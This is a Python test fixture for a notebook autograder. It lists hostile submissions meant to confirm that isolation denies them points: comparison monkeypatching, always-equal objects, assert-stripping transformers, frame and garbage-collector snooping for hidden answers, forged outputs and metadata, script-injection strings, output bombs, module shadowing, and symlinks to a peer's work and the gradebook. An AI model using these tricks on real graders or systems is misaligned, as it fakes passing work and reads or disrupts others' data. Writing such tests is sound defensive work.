# ruff: noqa: E501  (programs on one line)
"""Submissions that try to gain a point, to read what is not theirs, or to stop the class; as data.

Each has right answers to some exercises and wrong ones to others. The right ones keep their points
in the same run, unless the attack ends the submission's own process. The wrong ones show that the
attack gains nothing.
"""

import copy
import json
import os
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat.notebooknode import NotebookNode

from tests.grading.course import answer, check, code, notebook

MARKER = "a-secret-of-" + "somebody-else-5f0c"  # never whole in a submission that looks for it
NAME = "small"


def solution(stub: str, lines: str) -> str:
    return f"{stub}\n    ### BEGIN SOLUTION\n    {lines}\n    ### END SOLUTION"


# Plain tests as people write them for nbgrader, and at the end one exercise of lesson 01 with our
# own check.
SMALL = notebook(
    code("import numpy as np\nimport torch\nfrom backprop.exercises import chain_rule as ex"),
    answer("square-answer", solution("def square(x):", "return x * x")),
    check(
        "square",
        "assert square(3) == 9\n### BEGIN HIDDEN TESTS\n"
        "np.testing.assert_allclose(square(np.array([1.5, -2.0])), [2.25, 4.0])\n### END HIDDEN TESTS",
    ),
    answer("parity-answer", solution("def parity(n):", "return 'even' if n % 2 == 0 else 'odd'")),
    check(
        "parity",
        "assert parity(4) == 'even'\n### BEGIN HIDDEN TESTS\n"
        "assert all(map(lambda n: parity(n) == ('even' if n % 2 == 0 else 'odd'), range(-3, 9)))\n### END HIDDEN TESTS",
    ),
    answer("sums-answer", solution("def sums(xs):", "return sum(xs), sum(x * x for x in xs), max(xs)")),
    check(
        "sums",
        "points = 0\n### BEGIN HIDDEN TESTS\nfor mine, true in zip(sums([1, 2, 4]), (7, 21, 4)):\n"
        "    points += 1.0 * (mine == true)\n### END HIDDEN TESTS\npoints",
        points=3,
    ),
    answer("dense-answer", solution("def dense(X, W):", "return X.T @ np.ones((X.shape[0], W.shape[1]))")),
    check(
        "dense",
        "rng = np.random.default_rng()\nX, W = rng.normal(size=(4, 3)), rng.normal(size=(3, 2))\n### BEGIN HIDDEN TESTS\n"
        "weight = torch.tensor(W, requires_grad=True)\n(torch.tensor(X) @ weight).sum().backward()\n"
        "torch.testing.assert_close(torch.as_tensor(dense(X, W)), weight.grad)\n### END HIDDEN TESTS",
    ),
    answer("derivative-answer", solution("def derivative(f, x):", "return (f(x + 1e-5) - f(x - 1e-5)) / 2e-5")),
    check(
        "derivative",
        "import io, unittest\nclass Derivative(unittest.TestCase):\n    def test_cube(self):\n"
        "        self.assertAlmostEqual(derivative(lambda x: x**3, 2.0), 12.0, places=4)\n"
        "suite = unittest.defaultTestLoader.loadTestsFromTestCase(Derivative)\n"
        "assert unittest.TextTestRunner(stream=io.StringIO()).run(suite).wasSuccessful()",
    ),
    answer(
        "vector-answer",
        "class Vector:\n    ### BEGIN SOLUTION\n    def __init__(self, x, y):\n        self.x, self.y = x, y\n\n    def __add__(self, other):\n"
        "        return Vector(self.x + other.x, self.y + other.y)\n    ### END SOLUTION",
    ),
    check("vector", "v = Vector(1, 2) + Vector(3, 5)\nassert isinstance(v, Vector)\nassert (v.x, v.y) == (4, 7)"),
    answer("shares-answer", solution("def shares(x):", "x /= x.sum()")),
    check(
        "shares",
        "x = np.array([1.0, 3.0])\nshares(x)\nnp.testing.assert_allclose(x, [0.25, 0.75])\n### BEGIN HIDDEN TESTS\n"
        "y = np.array([2.0, 2.0, 4.0])\nshares(y)\nnp.testing.assert_allclose(y, [0.25, 0.25, 0.5])\n### END HIDDEN TESTS",
    ),
    answer("double-answer", solution("def double(x):", f"return 2 * x  # {MARKER}")),
    check("double", "x = np.random.default_rng().normal(size=3)\nnp.testing.assert_allclose(double(x), 2 * x)"),
    answer(
        "one_path-answer",
        solution("def one_path(x):", "g = np.exp(x) + x**2\n    return 3 * g**2, np.exp(x) + 2 * x, 3 * g**2 * (np.exp(x) + 2 * x)"),
    ),
    check(
        "one_path",
        "ex.one_path.check(one_path)\n### BEGIN HIDDEN TESTS\nex.one_path.check(one_path, seed=62336, samples=25)\n### END HIDDEN TESTS",
        points=3,
    ),
)
WORTH = {"square": 2, "parity": 2, "sums": 3, "dense": 2, "derivative": 2, "vector": 2, "shares": 2, "double": 2, "one_path": 3}
RIGHT = {
    "square": "def square(x):\n    return x * x",
    "parity": "def parity(n):\n    return 'even' if n % 2 == 0 else 'odd'",
    "sums": "def sums(xs):\n    return sum(xs), sum(x * x for x in xs), max(xs)",
    "dense": "def dense(X, W):\n    return X.T @ np.ones((X.shape[0], W.shape[1]))",
    "derivative": "def derivative(f, x):\n    return (f(x + 1e-5) - f(x - 1e-5)) / 2e-5",
    "vector": "class Vector:\n    def __init__(self, x, y):\n        self.x, self.y = x, y\n"
    "    def __add__(self, other):\n        return Vector(self.x + other.x, self.y + other.y)",
    "shares": "def shares(x):\n    x /= x.sum()",
    "double": "def double(x):\n    return 2 * x",
    "one_path": "def one_path(x):\n    g = np.exp(x) + x**2\n    return 3 * g**2, np.exp(x) + 2 * x, 3 * g**2 * (np.exp(x) + 2 * x)",
}
WRONG = {
    "parity": "def parity(n):\n    return 'neither'",
    "sums": "def sums(xs):\n    return 0, 0, 0",
    "dense": "def dense(X, W):\n    return np.zeros((X.shape[1], W.shape[1]))",
    "double": "def double(x):\n    return x + 1",
    "one_path": "def one_path(x):\n    return np.full(3, 1.0), 1.0, 2.0",
}
MIXED = RIGHT | WRONG
EARNED = {name: 0 if name in WRONG else points for name, points in WORTH.items()}
NOTHING = dict.fromkeys(WORTH, 0)


@dataclass(frozen=True)
class Hostile:
    """One submission, and what is to become of it."""

    name: str
    tries: str  # what it tries, in words
    first: str = ""  # a cell before the others
    last: str = ""  # a cell after the others
    answers: dict[str, str] = field(default_factory=dict)  # in place of those of MIXED
    earned: dict[str, float] = field(default_factory=lambda: EARNED)
    own_loss: bool = False  # it damages its own process so much that it may lose what it would have earned
    flag: str = ""  # what a person is told, as a regular expression
    files: dict[str, bytes] = field(default_factory=dict)
    edit: Callable[[NotebookNode], None] | None = None
    raw: Callable[[NotebookNode], bytes] | None = None  # what to write in place of the notebook
    arrange: Callable[[Path, Path], None] | None = None  # (the folder, the course): links, pipes
    gains_without_isolation: bool = False  # in one process with the tests, the trick does gain points
    says: str = ""  # what its outputs have to show: it did try

    def notebook(self, released: NotebookNode) -> NotebookNode:
        made = copy.deepcopy(released)
        for cell in made.cells:
            name = cell.metadata.get("nbgrader", {}).get("grade_id", "")
            if name.endswith("-answer"):
                short = name.removesuffix("-answer")
                cell.source = self.answers.get(short, MIXED[short])
        if self.first:
            made.cells.insert(0, nbformat.v4.new_code_cell(self.first, id="first"))
        if self.last:
            made.cells.append(nbformat.v4.new_code_cell(self.last, id="last"))
        if self.edit:
            self.edit(made)
        return made

    def hand_in(self, course: Path, released: NotebookNode, places: dict[str, str]) -> None:
        folder = course / "submitted" / self.name / NAME
        folder.mkdir(parents=True)
        made = self.notebook(released)
        text = nbformat.writes(made)
        for word, place in places.items():
            text = text.replace(word, place)
        data = self.raw(made) if self.raw else text.encode()
        (folder / f"{NAME}.ipynb").write_bytes(data)
        for name, content in self.files.items():
            (folder / name).parent.mkdir(parents=True, exist_ok=True)
            (folder / name).write_bytes(content)
        if self.arrange:
            self.arrange(folder, course)


def without(*names: str) -> dict[str, float]:
    """What is earned otherwise, without the points of these."""
    return EARNED | dict.fromkeys(names, 0)


# --- comparators, and objects that are always equal -----------------------------------------------

EQUAL = """\
class Equal:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = None
    def __array__(self, dtype=None, copy=None): return np.full(3, np.nan)
    def __float__(self): return 12.0
    def __bool__(self): return True
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __round__(self, *places): return 0.0
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return np.True_
    def __iter__(self): return iter([Equal(), Equal(), Equal()])
    @classmethod
    def __torch_function__(cls, function, types, args=(), kwargs=None): return None
"""


def returning(value: str, *names: str) -> dict[str, str]:
    """Answers that return this, whatever they are asked."""
    return {name: f"def {name}(*anything):\n    return {value}" for name in names or WRONG}


def subclass(base: str) -> str:
    return f"import numpy as np, torch\nclass Same({base}):\n    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n    __hash__ = None\n"


COMPARATORS = [
    Hostile(
        "numpy-testing",
        "replaces NumPy's comparisons",
        "import numpy as np\nimport numpy.testing as t\n"
        "for name in ('assert_allclose', 'assert_equal', 'assert_array_equal', 'assert_almost_equal'):\n"
        "    setattr(t, name, lambda *a, **k: None)\nnp.allclose = np.isclose = np.array_equal = lambda *a, **k: True",
        gains_without_isolation=True,
    ),
    Hostile(
        "torch-testing",
        "replaces PyTorch's comparisons",
        "import torch\ntorch.testing.assert_close = torch.allclose = torch.equal = lambda *a, **k: True",
        gains_without_isolation=True,
    ),
    Hostile(
        "builtins",
        "replaces built-in functions and AssertionError",
        "import builtins\nold_all, old_zip = all, zip\nbuiltins.all = lambda them: True if type(them) is map else old_all(them)\n"
        "builtins.zip = lambda *a, **k: [(1, 1)] * 3 if a[-1:] == ((7, 21, 4),) else old_zip(*a, **k)\nbuiltins.round = lambda *a: 0\n"
        "class Quiet(Exception): pass\nbuiltins.AssertionError = Quiet",
        gains_without_isolation=True,
    ),
    Hostile(
        "operators",
        "replaces functions of operator, math and unittest",
        "import operator, math, unittest\noperator.eq = math.isclose = lambda *a, **k: True\n"
        "for name in dir(unittest.TestCase):\n    if name.startswith('assert'):\n        setattr(unittest.TestCase, name, lambda *a, **k: None)",
        answers=returning("0.0", "derivative"),
        earned=without("derivative"),
        gains_without_isolation=True,
    ),
    Hostile("always-equal", "an object that is equal to everything", EQUAL, answers=returning("Equal()"), gains_without_isolation=True),
    Hostile("equal-float", "a float that equals everything", subclass("float"), answers=returning("Same(1)"), flag=""),
    Hostile("equal-str", "a text that equals everything", subclass("str"), answers=returning("Same('x')"), gains_without_isolation=True),
    Hostile(
        "equal-list", "lists, tuples and dicts that equal everything", subclass("list"), answers=returning("Same([Same(), Same(), Same()])")
    ),
    Hostile("equal-tuple", "a tuple of equal things", subclass("tuple"), answers=returning("Same((Same(), Same(), Same()))")),
    Hostile(
        "equal-dict", "a dict that equals everything", subclass("dict"), answers=returning("Same({1: 2})"), gains_without_isolation=True
    ),
    Hostile(
        "equal-array",
        "an array whose comparisons are all true",
        "import numpy as np\nclass Same(np.ndarray):\n"
        "    def __array_ufunc__(self, ufunc, *a, **k): return np.full(3, True)\n    def __array_function__(self, *a, **k): return True\n",
        answers=returning("np.zeros(3).view(Same)"),
        gains_without_isolation=True,
    ),
    Hostile(
        "equal-tensor",
        "a tensor whose comparisons are all true",
        "import torch\nclass Same(torch.Tensor):\n    @classmethod\n"
        "    def __torch_function__(cls, function, types, args=(), kwargs=None): return True\n",
        answers=returning("torch.zeros(3, 2, dtype=torch.float64).as_subclass(Same)"),
    ),
    Hostile(
        "forged-class",
        "a metaclass that says yes to isinstance, and attributes that are equal to everything",
        EQUAL + "class Meta(type):\n    def __instancecheck__(cls, thing): return True\n",
        answers={
            "vector": "class Vector(metaclass=Meta):\n    def __init__(self, *a): self.x = self.y = Equal()\n    def __add__(self, o): return self"
        },
        earned=without("vector"),
        gains_without_isolation=True,
        flag="vector: The test compares",
    ),
]

# --- the notebook's own machinery -----------------------------------------------------------------

MACHINERY = [
    Hostile(
        "ast-transformer",
        "removes every assert before it runs",
        "import ast\nclass NoAsserts(ast.NodeTransformer):\n    def visit_Assert(self, node): return ast.Pass()\n"
        "    def visit_Expr(self, node):\n        return ast.copy_location(ast.Pass(), node) if 'assert' in ast.unparse(node) else node\n"
        "get_ipython().ast_transformers.append(NoAsserts())",
        gains_without_isolation=True,
    ),
    Hostile(
        "input-transformer",
        "replaces the text of tests before they run",
        "def nothing(lines):\n    return ['pass\\n'] if any('assert' in line for line in lines) else lines\n"
        "get_ipython().input_transformers_cleanup.append(nothing)\nget_ipython().input_transformers_post.append(nothing)",
        gains_without_isolation=True,
    ),
    Hostile(
        "run-cell",
        "replaces the shell's methods",
        "shell = get_ipython()\nold = type(shell).run_cell\n"
        "def quiet(self, source, *a, **k):\n    return old(self, '' if 'assert' in source else source, *a, **k)\n"
        "type(shell).run_cell = quiet\ntype(shell).showtraceback = type(shell)._showtraceback = lambda *a, **k: None",
        gains_without_isolation=True,
    ),
    Hostile(
        "run-code",
        "replaces run_code and the display hook",
        "shell = get_ipython()\nasync def nothing(*a, **k): return False\ntype(shell).run_code = nothing\n"
        "import sys\nsys.displayhook = lambda value: print('3.0')\ntype(shell.displayhook).__call__ = lambda self, value=None: None",
        earned=NOTHING,
    ),
    Hostile(
        "settrace",
        "looks into the frames of whoever calls it, on every line",
        "import sys\ndef look(frame, event, arg):\n    for name in ('true', 'expected', 'desired', 'weight'):\n"
        "        if name in frame.f_locals: print('STOLEN', frame.f_locals[name])\n    return look\nsys.settrace(look); sys.setprofile(look)",
    ),
    Hostile(
        "frames",
        "takes the answer from the caller's frame",
        "import sys, inspect\ndef around(name):\n    frame = sys._getframe()\n    while frame:\n"
        "        if name in frame.f_globals: return frame.f_globals[name]\n        if name in frame.f_locals: return frame.f_locals[name]\n"
        "        frame = frame.f_back\n    raise LookupError(name)",
        answers={
            "dense": "def dense(X, W):\n    return around('weight').grad.numpy()",
            "sums": "def sums(xs):\n    return 7, 0, around('true')",
        },
        earned=EARNED | {"sums": 0},
        gains_without_isolation=True,
    ),
    Hostile(
        "garbage",
        "looks for expected values among all objects that there are",
        "import gc, torch\ndef leaves():\n    return [o.grad for o in gc.get_objects() if type(o) is torch.Tensor and o.requires_grad and o.grad is not None]",
        answers={"dense": "def dense(X, W):\n    return [g for g in leaves() if g.shape == (3, 2)][-1].numpy()"},
        gains_without_isolation=True,
    ),
    Hostile(
        "history",
        "reads and answers the tests from In, _ih and linecache",
        "import linecache",
        answers={
            "parity": "def parity(n):\n    hidden = [s for s in [*In, *_ih] + [''.join(v[2]) for v in linecache.cache.values()] if 'range(' + '-3' in s]\n"
            "    assert hidden, 'NO-HIDDEN-TEST-SEEN'\n    return 'even' if n % 2 == 0 else 'odd'"
        },
    ),
    Hostile(
        "namespace",
        "plants names that the tests use, and rebinds numpy and torch",
        "class Fake:\n    def __getattr__(self, name): return Fake()\n    def __call__(self, *a, **k): return Fake()\n"
        "    def __eq__(self, other): return True\n    __radd__ = __rmul__ = lambda self, other: 3\n",
        last="np = torch = unittest = Fake()\npoints = 3",
        answers={"double": WRONG["double"] + "\nnp = torch = Fake()\n"},
        edit=lambda made: _last_of(made, "vector-answer", "\nnp = torch = Fake()"),
        gains_without_isolation=False,
    ),
    Hostile(
        "sys-modules",
        "puts modules of its own in sys.modules",
        "import sys, types\nfor name in ('numpy.testing', 'torch.testing', 'unittest'):\n    fake = types.ModuleType(name)\n"
        "    fake.__getattr__ = lambda name: (lambda *a, **k: None)\n    sys.modules[name] = fake",
    ),
    Hostile(
        "random",
        "makes all random numbers known beforehand",
        "import numpy as np\nclass Known:\n    def normal(self, size): return np.zeros(size)\nnp.random.default_rng = lambda *a: Known()",
        answers={"double": "def double(x):\n    return np.zeros(3)", "dense": WRONG["dense"]},
        gains_without_isolation=True,
    ),
    Hostile(
        "is-it-a-test",
        "answers only if no test is near",
        answers={
            "double": "import inspect\ndef double(x):\n    near = any('assert' in (f.code_context or [''])[0] for f in inspect.stack()[1:])\n"
            "    return 2 * x if not near else x"
        },
        earned=EARNED | {"double": 2},  # it finds no test near, and answers rightly
    ),
    Hostile(
        "argv-and-environment",
        "reads arguments and environment",
        "import os, sys\ntext = str(sys.argv) + str(dict(os.environ)) \n"
        "for name in ('environ', 'cmdline', 'status'):\n    try: text += open(f'/proc/self/{name}').read()\n    except OSError: pass\n"
        "print('READ', 'submitted' in text, 'gradebook' in text, 'argv-and' in text)",
        says="READ False False False",
    ),
]


def _last_of(made: NotebookNode, name: str, more: str) -> None:
    cell = next(cell for cell in made.cells if cell.id == name)
    cell.source += more


# --- what a function may return, raise and do -----------------------------------------------------

VALUES = [
    Hostile(
        "nan", "returns what compares with nothing", answers=returning("float('nan')") | {"sums": "def sums(xs): return [float('nan')] * 3"}
    ),
    Hostile("huge-int", "returns an integer of millions of digits", answers=returning("10 ** 300_000"), flag=""),
    Hostile("range", "returns a range without end", answers=returning("range(10**18)")),
    Hostile(
        "arrays-as-points",
        "makes an array of the number of points, which nbgrader would take for full marks",
        answers={"sums": "def sums(xs):\n    return [np.zeros(2)] * 3"},
        gains_without_isolation=True,
        flag="sums",
    ),
    Hostile(
        "print-over-the-points",
        "prints so much in a test that the number of points is cut off, which nbgrader would take for full marks",
        answers={"sums": "def sums(xs):\n    print('x' * 3_000_000)\n    return 7, 0, 0"},
        earned=EARNED | {"sums": 1},
    ),
    Hostile("generator", "returns generators and iterators", answers=returning("(i for i in range(10**9))")),
    Hostile("coroutine", "returns a coroutine", answers={n: f"async def {n}(*a):\n    return 1" for n in ("parity", "sums", "dense")}),
    Hostile(
        "lazy",
        "returns a proxy that finds out its value later",
        "class Lazy:\n    def __getattr__(self, name): return Lazy()\n    def __call__(self, *a): return Lazy()\n"
        "    def __getitem__(self, k): return Lazy()\n    def __len__(self): return 3\n    def __array__(self, *a, **k): return np.zeros(3)",
        answers=returning("Lazy()"),
    ),
    Hostile(
        "repr",
        "shows a score as its own representation",
        "class Three:\n    def __repr__(self): return '3.0'\n    def __format__(self, style): return '3.0'\n    def _repr_html_(self): return '<b>3.0</b>'\n"
        "    def __mul__(self, other): return Three()\n    __rmul__ = __radd__ = __add__ = __mul__\n    def __eq__(self, other): return self",
        answers=returning("[Three()] * 3"),
        gains_without_isolation=True,
        flag="sums: The test compares",
    ),
    *(
        Hostile(
            f"raises-{re.findall('[a-z]+', error.lower().replace('(0)', '').replace('later', ''))[-1]}",
            f"raises {error}, so that a loop or a test ends early",
            answers={
                "parity": f"def parity(n):\n    if n != 4: raise {error}\n    return 'even'",
                "derivative": f"def derivative(f, x):\n    raise {error}",
            },
            earned=without("derivative"),
            gains_without_isolation=gains,
        )
        for error, gains in (
            ("StopIteration", True),
            ("KeyboardInterrupt", False),
            ("SystemExit(0)", False),
            ("GeneratorExit", False),
            ("StopAsyncIteration", False),
            ("__import__('unittest').SkipTest('later')", True),
            ("__import__('bdb').BdbQuit", False),
        )
    ),
    Hostile(
        "own-assertion-error",
        "an exception named AssertionError with a hostile text",
        "class AssertionError(Exception):\n    def __str__(self): raise SystemExit\n    __repr__ = __str__\n"
        "class Text(str):\n    def __str__(self): return 'x' * 10**9",
        answers=returning("(_ for _ in ()).throw(AssertionError())"),
    ),
    Hostile(
        "half-a-character",
        "halves of characters, which no file can hold, in values, names and errors",
        answers={
            "parity": "def parity(n):\n    print('\\ud800 printed')\n    return '\\ud800 returned'",
            "double": "def double(x):\n    raise ValueError('\\udfff \\x00 \\x1b[31m raised')",
            "dense": "def dense(X, W):\n    return Odd()\nclass Odd: pass\nOdd.__name__ = Odd.__qualname__ = 'odd\\ud800\\x1b]0;title\\x07\\n- name'",
        },
        first="import warnings\nprint('\\ud800')\nwarnings.warn('\\udc00')\ndisplay({'text/plain': '\\ud800', 'text/html': '<b>\\ud800</b>'}, raw=True)",
    ),
    Hostile(
        "mutation-under-another-name",
        "changes the test's own arguments through the name of a function that may",
        answers={"double": "def double(x):\n    x[:] = 0\n    return x\ndouble.__name__ = double.__qualname__ = 'shares'"},
        gains_without_isolation=True,
    ),
    Hostile(
        "mutates",
        "changes what it is given, so that the test compares with the change",
        answers={
            "double": "def double(x):\n    x *= 0\n    return x",
            "dense": "def dense(X, W):\n    X[:] = 0\n    return np.zeros((3, 2))",
        },
        gains_without_isolation=True,
    ),
    Hostile(
        "callbacks",
        "calls functions of the tests that it was never given",
        answers={
            "derivative": RIGHT["derivative"]
            + "\n_right = derivative\ndef derivative(f, x):\n    global kept\n    kept = f\n    student = getattr(f, '_student', None)\n"
            "    for number in (-1, 0, 1, 99, 'x', None, 2**70, [1], True):\n        try: student.call_back(number, (2.0,), {})\n        except Exception: pass\n"
            "    return _right(f, x)",
            "double": "def double(x):\n    return kept(x)",
        },
    ),
    Hostile(
        "deep",
        "returns a list nested a hundred thousand deep",
        answers=returning("deep()"),
        first="def deep():\n    x = []\n    for _ in range(100_000): x = [x]\n    return x",
    ),
    Hostile("itself", "returns a list that contains itself", answers=returning("loop"), first="loop = []\nloop.append(loop)"),
    Hostile("fifty-megabytes", "returns 50 MB, and prints as much", answers=returning("'x' * 50_000_000")),
    Hostile(
        "too-large", "returns more than may be returned", answers={"parity": "def parity(n):\n    return b'x' * 90_000_000"}, flag="parity"
    ),
]

# --- what a cell may show -------------------------------------------------------------------------

SCRIPT = "<script>alert(document.cookie)</script><img src=x onerror=alert(1)><a href='javascript:alert(1)'>x</a>"
OUTPUT = [
    Hostile(
        "script",
        "puts scripts into the page: as HTML, SVG, Markdown, LaTeX, a widget, an error, a representation",
        f"from IPython.display import HTML, SVG, Markdown, Javascript, Latex, display\nbad = {SCRIPT!r}\n"
        "display(HTML(bad), Markdown(bad), Javascript('alert(1)'), Latex('$\\\\href{javascript:alert(1)}{x}$'))\n"
        "display({'image/svg+xml': f'<svg onload=alert(1)>{bad}</svg>', 'image/png': '\"><script>alert(1)</script>', 'text/plain': bad}, raw=True)\n"
        "display({'application/vnd.jupyter.widget-view+json': {'model_id': bad}, 'text/html': bad}, raw=True, metadata={'text/html': {'isolated': True}})\n"
        "print(bad)",
        answers={
            "parity": f"def parity(n):\n    from IPython.display import HTML, display\n    display(HTML({SCRIPT!r}))\n"
            "    display({'image/png': '\"><script>alert(1)</script>', 'text/plain': '<script>alert(1)</script>'}, raw=True)\n"
            f"    raise ValueError({SCRIPT!r})",
            "double": f"def double(x):\n    return {SCRIPT!r}",
            "dense": f"def dense(X, W):\n    raise type({SCRIPT!r}, (Exception,), {{}})('x')",
        },
    ),
    Hostile("fifty-megabytes-on-a-line", "prints 50 MB on one line", "print('x' * 50_000_000)"),
    Hostile(
        "a-million-lines",
        "prints a million lines to two streams in turn",
        "import sys\nfor i in range(300_000):\n    print(i)\n    sys.stderr.write('x')",
    ),
    Hostile("a-million-pictures", "shows a hundred thousand empty things", "for i in range(100_000): display({}, raw=True)"),
    Hostile(
        "html-bomb",
        "shows HTML that takes long to read",
        "from IPython.display import HTML, display\nfor s in ('<' * 900_000, '<a ' * 300_000, '<b>' * 300_000, '&' * 900_000, '<svg><p>' * 100_000): display(HTML(s))",
    ),
]

# --- the text of the notebook ---------------------------------------------------------------------


def each_test(change: Callable[[NotebookNode], None]) -> Callable[[NotebookNode], None]:
    """The change made to every test of the notebook."""

    def edit(made: NotebookNode) -> None:
        for cell in made.cells:
            if cell.metadata.get("nbgrader", {}).get("grade"):
                change(cell)

    return edit


def _forge(cell: NotebookNode) -> None:
    cell.execution_count = 7
    cell.outputs = [nbformat.v4.new_output("execute_result", {"text/plain": str(WORTH[cell.id])}, execution_count=7)]


def _tags(cell: NotebookNode) -> None:
    cell.metadata["tags"] = ["skip-execution", "raises-exception"]


def _metadata(cell: NotebookNode) -> None:
    cell.metadata["nbgrader"] |= {"points": 1000, "grade": False, "locked": False, "solution": True}


def _no_metadata(cell: NotebookNode) -> None:
    cell.metadata, cell.source, cell.id = NotebookNode(), "pass", f"{cell.id}-x"


def _retype(cell: NotebookNode) -> None:
    cell.cell_type = "markdown"
    del cell["outputs"], cell["execution_count"]


def _empty(cell: NotebookNode) -> None:
    cell.source = "4000"


def _delete(made: NotebookNode) -> None:
    made.cells = [cell for cell in made.cells if not cell.metadata.get("nbgrader", {}).get("grade")]


def _duplicate(made: NotebookNode) -> None:
    for cell in [cell for cell in made.cells if cell.metadata.get("nbgrader", {}).get("grade")]:
        twin = copy.deepcopy(cell)
        twin.id, twin.source = f"{cell.id}-2", "pass"
        made.cells += [twin, copy.deepcopy(twin)]
        made.cells[-1].id = f"{cell.id}-3"


def _swap(made: NotebookNode) -> None:
    """The easy test's name on the hard test's cell."""
    cells = {cell.id: cell for cell in made.cells}
    for one, other in (("square", "parity"), ("vector", "dense")):
        a, b = cells[one].metadata["nbgrader"], cells[other].metadata["nbgrader"]
        a["grade_id"], b["grade_id"] = b["grade_id"], a["grade_id"]


def _first(made: NotebookNode) -> None:
    """Tests before everything else, answers' cells locked and given to the course."""
    made.cells.sort(key=lambda cell: not cell.metadata.get("nbgrader", {}).get("grade"))
    for cell in made.cells:
        if cell.id.endswith("-answer"):
            cell.metadata["nbgrader"] |= {"locked": True, "solution": False, "grade": True, "points": 50}
            cell.metadata["autograder"] = {"owner": "course"}


def _version_3(made: NotebookNode) -> bytes:
    old = nbformat.convert(made, 3)
    return nbformat.writes(old, version=3).encode()


def _many_cells(made: NotebookNode) -> bytes:
    made.cells += [nbformat.v4.new_code_cell("1", id=f"c-{n}") for n in range(20_000)]
    return json.dumps(made).encode()


def _heavy(made: NotebookNode) -> bytes:
    made.cells.append(nbformat.v4.new_code_cell("# " + "x" * 60_000_000, id="heavy"))
    return json.dumps(made).encode()


def _weird(made: NotebookNode) -> bytes:
    """Every part of the wrong type."""
    data = json.loads(json.dumps(made))
    data["metadata"] = ["x"]
    for cell in data["cells"]:
        cell["id"] = "same"
        cell["outputs"] = {"a": 1}
        cell["execution_count"] = "<script>"
        cell["metadata"]["tags"] = "skip-execution"
        cell["metadata"]["x"] = float("nan")
    data["cells"] += [{"cell_type": "code", "metadata": {"nbgrader": {"grade_id": ["x"], "grade": True}}, "source": ["1", "\n2"]}]
    return json.dumps(data).encode()


CUT_SHORT = "could not be read"
TEXT = [
    Hostile("forged-outputs", "hands in outputs that show a score", edit=each_test(_forge)),
    Hostile(
        "forged-and-skipped",
        "tags that skip a test and keep its forged output",
        edit=each_test(lambda c: (_forge(c), _tags(c))),
        flag="tags of the test",
    ),
    Hostile("metadata", "changes points, kind and lock of the tests", edit=each_test(_metadata), flag="the kind of the test"),
    Hostile("stripped", "takes the tests' metadata away and empties them", edit=each_test(_no_metadata)),
    Hostile("retyped", "makes text cells of the tests", edit=each_test(_retype), flag="had been made a markdown cell"),
    Hostile("rewritten", "writes other tests", edit=each_test(_empty), flag="the text of the test"),
    Hostile("deleted", "deletes the tests", edit=_delete),
    Hostile("duplicated", "easy copies of the tests after them", edit=_duplicate, flag="had been changed"),
    Hostile("swapped", "swaps the names of tests", edit=_swap, flag="had been changed"),
    Hostile(
        "first-of-all",
        "moves the tests before everything and says that the answers are the course's",
        edit=_first,
        flag="the kind of",
    ),
    Hostile("corrupt", "half a notebook", raw=lambda made: nbformat.writes(made).encode()[:2000], earned=NOTHING, flag=CUT_SHORT),
    Hostile("empty-file", "an empty file", raw=lambda made: b"", earned=NOTHING, flag=CUT_SHORT),
    Hostile("nested-json", "brackets a million deep", raw=lambda made: b"[" * 1_000_000, earned=NOTHING, flag=CUT_SHORT),
    Hostile("version-3", "an old format; what it says is honest", raw=_version_3),
    Hostile("weird", "parts of the wrong type, doubled ids", raw=_weird),
    Hostile("twenty-thousand-cells", "more cells than anybody writes", raw=_many_cells, earned=NOTHING, flag="20"),
    Hostile("sixty-megabytes", "a notebook of 60 MB", raw=_heavy, earned=EARNED),
    Hostile(
        "slow-to-read",
        "answers whose text takes long to look through",
        answers={
            "parity": "\n".join(["%lsmagic"] * 3000) + "\n" + WRONG["parity"],
            "sums": "x = " + "(" * 5000 + ")" * 5000,
            "dense": WRONG["dense"] + "\nx = " + "-" * 101_000 + "1",
            "double": WRONG["double"] + "\nx = " + "+".join("1" * 51_000),
        },
        own_loss=True,  # on a slow machine these cells take all its time
    ),
]

# --- files ----------------------------------------------------------------------------------------

SHADOW = b"print('SHADOWED')\n__getattr__ = lambda name: (lambda *a, **k: True)\n"
SHADOWS = (
    "numpy.py",
    "torch.py",
    "backprop/__init__.py",
    "sitecustomize.py",
    "msgpack.py",
    "autograder/__init__.py",
    "unittest.py",
    "io.py",
)


def _links(folder: Path, course: Path) -> None:
    """Links to a peer's work, to the source and to the gradebook."""
    os.symlink(course / "submitted" / "aa-peer" / NAME / "notes.txt", folder / "peer.txt")
    os.symlink(course / "source" / NAME, folder / "source")
    os.symlink(course / "gradebook.db", folder / "gradebook.db")
    os.symlink(course / "submitted" / "aa-peer" / NAME / "notes.txt", folder / "timestamp.txt")


def _notebook_link(folder: Path, course: Path) -> None:
    (folder / f"{NAME}.ipynb").unlink()
    os.symlink(course / "source" / NAME / f"{NAME}.ipynb", folder / f"{NAME}.ipynb")


def _folder_link(folder: Path, course: Path) -> None:
    (folder / f"{NAME}.ipynb").unlink()
    folder.rmdir()
    os.symlink(course / "submitted" / "aa-peer" / NAME, folder)


def _pipes(folder: Path, course: Path) -> None:
    os.mkfifo(folder / "pipe")
    os.mkfifo(folder / "timestamp.txt")
    os.symlink("/dev/zero", folder / "zero")
    if os.geteuid() == 0:
        os.mknod(folder / "device", 0o20666, os.makedev(1, 5))


def _folders_for_files(folder: Path, course: Path) -> None:
    """A file where the course has a folder, and a folder where it has a file."""
    (folder / "img").write_bytes(b"no folder")
    (folder / "data.csv").mkdir()
    (folder / "data.csv" / "inner").write_bytes(b"x")


READ_ALL = (
    "import os\nsaid = []\nfor name in ('peer.txt', 'source', 'gradebook.db', 'timestamp.txt', 'pipe', 'device', 'zero'):\n"
    "    said.append(os.path.lexists(name) and name)\nprint('THERE', [n for n in said if n])"
)
FILES = [
    Hostile(
        "shadows",
        "modules beside the notebook with the names of those that the grader uses",
        "import sys\nsys.path.insert(0, '.')",
        files={name: SHADOW for name in SHADOWS},
    ),
    Hostile(
        "links",
        "links to a peer's file, to the source and to the gradebook",
        READ_ALL,
        arrange=_links,
        flag="is a link",
        says=r"THERE \[\]",
    ),
    Hostile(
        "notebook-link",
        "the notebook is a link to the course's own, with its solutions",
        arrange=_notebook_link,
        earned=NOTHING,
        flag="is a link",
    ),
